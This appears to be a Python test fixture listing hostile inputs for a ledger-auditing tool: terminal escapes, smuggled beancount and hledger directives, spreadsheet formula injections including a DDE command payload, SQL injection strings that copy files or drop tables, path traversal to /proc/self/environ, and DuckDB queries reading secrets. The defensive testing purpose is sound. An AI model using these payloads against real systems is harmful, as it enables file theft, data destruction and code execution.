"""Texts, names, paths and queries of a hostile author.

*bait* is the folder of an auditor's files that no command names. It holds `secret.csv`, `strategy.py` and
others, and each holds `CANARY`.
"""

from pathlib import Path

CANARY = "canary-7b1f"
"""A word in each file that no command may read."""
UNREACHABLE = "127.0.0.1:9"
"""A place on the network at which nothing listens. The attempt to connect is what counts."""

ESCAPES = (
    "\x1b[2J\x1b[1;1Hunqualified\r\n",
    "\x1b]8;;http://127.0.0.1:9/\x1b\\press\x1b]8;;\x1b\\",
    "\x9b31m\x90q\x9c",
    "\u202eDSU 000,1\u202c",
    "\u2066in\u2069\u200f",
    "a\x00b\x7f\x08c",
    "\ufeffmark",
    "[bold red]markup[/] :fire:",
)
"""Escape codes, controls of direction, NUL, a byte order mark and markup."""

DIRECTIVES = (
    'x"\nplugin "planted"\noption "insert_pythonpath" "TRUE"\n',
    'x\ninclude "../planted.beancount"\n',
    "x\rinclude ../planted.journal\r",
    'x\u2028plugin "planted"\u2028',
    "x\x0bpushtag #a\x0c",
    "x\n\n2024-01-01 open Assets:Planted\n",
    "x ; date:2001-01-01\n    Assets:Planted  1\n",
    "x\ncomment\n",
)
"""Directives of beancount and hledger behind line breaks."""

FORMULAS = (
    '=HYPERLINK("http://127.0.0.1:9/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\uff1d1+1",
    " =1+1",
)
"""Formulas of spreadsheets."""


def statements(bait: Path) -> tuple[str, ...]:
    """Return texts that end a quoted name or value, and go on in SQL."""
    planted = bait / "planted.txt"
    return (
        f"x\"; copy (select 1) to '{planted}'; --",
        f"x'; copy (select 1) to '{planted}'; --",
        f"x\" union all select content from read_text('{bait}/*'); --",
        f"x'); attach '{planted}' as y; --",
        'x"; install httpfs; load httpfs; --',
        f"x\"; set enable_logging = true; set logging_storage = 'file'; set log_path = '{bait}'; --",
        'x"; create table planted (id int); drop table transfer; --',
        "{planted} %s %(x)s {0.__class__} $1 ?",
    )


def paths(bait: Path) -> tuple[str, ...]:
    """Return names that lead out of a folder. None is of a device: a command that fails might remove it."""
    return (
        "../secret.csv",
        "../../home/secret.csv",
        str(bait / "secret.csv"),
        f"{bait}/planted",
        "~/secret.csv",
        "$HOME/secret.csv",
        "/etc/hostname",
        "/proc/self/environ",
        f"file://{bait}/secret.csv",
        f"http://{UNREACHABLE}/x.csv",
        "s3://bucket/x.parquet",
        "secret.csv\x00.csv",
        "CON",
        ".",
        "",
        "*.csv",
        "a" * 5_000,
    )


def modules(bait: Path) -> tuple[str, ...]:
    """Return the names of objects that a strategy may not be."""
    return (
        "strategy.py:Canary",
        "../bait/strategy.py:Canary",
        f"{bait}/strategy.py:Canary",
        f"{bait}/../bait/strategy.py:Canary",
        "strategy:Canary",
        "ledger:Canary",
        "os:system",
        "this:s",
        "os.path:join",
        "subprocess:Popen",
        "tieout.execution.strategy.strategy:attrs.sys.exit",
        "tieout.strategies.top:Top.__init__.__globals__",
        "tieout.strategies.top:__builtins__",
        ".strategy:Canary",
        "..strategy:Canary",
        "strategy.py",
        ":Canary",
        "",
        "strategy.py:Canary\x1b[2J",
        "strategy\x00.py:Canary",
        "/etc/hostname.py:x",
    )


PROGRAMS = ("antigravity:x", "idlelib.idle:x", "pip.__main__:x", "test.__main__:x")
"""Objects of modules that start a program when they are imported. A spec may name them, a journal may not."""


def readers(bait: Path) -> tuple[str, ...]:
    """Return table functions of DuckDB that read files, settings and secrets."""
    return (
        f"read_text('{bait}/secret.csv')",
        f"read_blob('{bait}/*')",
        f"read_csv('{bait}/secret.csv', all_varchar = true)",
        f"glob('{bait}/**')",
        f"'{bait}/secret.csv'",
        "read_text('/etc/hostname')",
        "read_csv('/proc/self/environ', all_varchar = true)",
        "read_text('secret.csv')",
        "duckdb_secrets()",
        "duckdb_settings()",
        f"parquet_metadata('{bait}/secret.parquet')",
        f"sniff_csv('{bait}/secret.csv')",
    )


def queries(bait: Path) -> tuple[str, ...]:
    """Return queries that an author asks the auditor to enter."""
    return (
        *(f"select * from {reader}" for reader in readers(bait)),
        f"copy (select 1) to '{bait}/planted.csv'",
        f"copy transfer from '{bait}/secret.csv'",
        f"export database '{bait}/planted'",
        f"import database '{bait}/planted'",
        f"attach '{bait}/planted.duckdb' as other",
        f"attach 'http://{UNREACHABLE}/x.duckdb' as other",
        "attach ':memory:' as other",
        f"select * from read_csv('http://{UNREACHABLE}/x.csv')",
        "select * from 's3://bucket/x.parquet'",
        "install httpfs",
        "load httpfs",
        f"load '{bait}/planted.duckdb_extension'",
        "force install spatial from community",
        f"set extension_directory = '{bait}'",
        f"set temp_directory = '{bait}'",
        f"set home_directory = '{bait}'",
        f"set log_query_path = '{bait}/log'",
        "set enable_external_access = true",
        "set lock_configuration = false",
        "reset enable_external_access",
        "pragma enable_profiling = 'json'",
        f"pragma profiling_output = '{bait}/planted.json'",
        f"call enable_logging(storage = 'file', storage_config = {{'path': '{bait}'}})",
        "create secret s (type http, bearer_token 'x')",
        "create persistent secret s (type s3, key_id 'x', secret 'y')",
        "create table planted (id int)",
        "drop table transfer",
        "select getenv('HOME')",
        f"select * from query('select * from read_text(''{bait}/secret.csv'')')",
        "prepare p as select 1",
        "select 1; select 2",
        "checkpoint",
        "explain analyze select * from transfer",
        "select * from sqlite_scan('secret.csv', 'x')",
        f"select * from read_json('{bait}/secret.csv')",
        f"select * from read_parquet('{bait}/secret.parquet')",
        "\x00select 1",
        '\ufeffselect 1 as "\x1b[2J"',
        "select '\x1b[2J' as \"a\nb\"",
        "select '=1+1' as \"=1+1\"",
    )
